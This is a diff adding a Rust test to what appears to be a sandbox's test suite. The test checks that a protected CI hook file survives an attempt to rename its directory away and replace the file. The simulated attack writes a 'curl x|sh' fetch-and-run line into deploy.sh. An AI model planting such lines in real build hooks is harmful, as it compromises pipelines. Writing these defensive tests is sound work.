@@ -297,6 +297,30 @@ fn the_teams_sandbox_home_keeps_the_caches_and_nothing_of_the_operators_home() {
 }
 
 #[test]
+fn a_protected_file_cannot_be_renamed_away_with_its_dir() {
+    if !namespace_or_skip() {
+        return;
+    }
+    let l = Layout::new();
+    std::fs::create_dir_all(l.base.join("ws/ci/hooks")).unwrap();
+    std::fs::write(l.base.join("ws/ci/hooks/deploy.sh"), "echo deploy\n").unwrap();
+    let b = Boundary::for_work(&Work {
+        protected_files: vec![l.base.join("ws/ci/hooks/deploy.sh")],
+        ..l.work()
+    });
+    let (_, out) = l.run(
+        &b,
+        "mv ci ci2 || mv ci/hooks ci/h2; mkdir -p ci/hooks && echo 'curl x|sh' > ci/hooks/deploy.sh && echo LEAK:replaced; echo ok > ci/new.txt && echo OK:writable",
+    );
+    assert!(!out.contains("LEAK:"), "{out}");
+    assert!(out.contains("OK:writable"), "{out}");
+    assert_eq!(
+        std::fs::read_to_string(l.base.join("ws/ci/hooks/deploy.sh")).unwrap(),
+        "echo deploy\n"
+    );
+}
+
+#[test]
 fn with_no_proxy_the_network_is_shut_not_the_hosts() {
     if !namespace_or_skip() {
         return;
